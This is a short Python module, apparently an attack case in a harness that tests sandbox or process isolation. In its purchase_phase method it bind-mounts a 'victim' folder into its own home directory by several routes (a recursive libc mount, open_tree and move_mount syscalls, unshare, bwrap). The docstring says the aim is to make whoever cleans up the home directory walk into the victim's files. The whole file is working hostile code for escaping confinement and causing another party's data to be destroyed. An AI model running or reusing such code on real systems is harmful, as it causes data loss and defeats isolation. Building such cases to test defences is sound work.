"""Mounts the organiser's folder within its home by every way it finds, so that whoever clears up walks into it."""

import os
import subprocess

from aim import AIM, HOME, LIBC, attempt

from run import ZEWDPCBaseRun

BIND, RECURSIVE, DETACHED = 4096, 16384, 1
OPEN_TREE, MOVE_MOUNT, FSOPEN = 428, 429, 430


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        place = f"{HOME}/inner"
        os.makedirs(place, exist_ok=True)
        victim, target = AIM["victim"].encode(), place.encode()
        LIBC.mount(victim, target, None, BIND | RECURSIVE, None)
        tree = LIBC.syscall(OPEN_TREE, -100, victim, DETACHED)
        LIBC.syscall(MOVE_MOUNT, tree, b"", -100, target, 4)
        LIBC.syscall(FSOPEN, b"tmpfs", 0)
        for command in (["fusermount3", "-u", place], ["unshare", "-rm", "mount", "--bind", AIM["victim"], place]):
            attempt(subprocess.run, command, stdin=subprocess.DEVNULL, timeout=3)
        attempt(subprocess.run, ["bwrap", "--bind", "/", "/", "--bind", AIM["victim"], place, "true"], timeout=3)
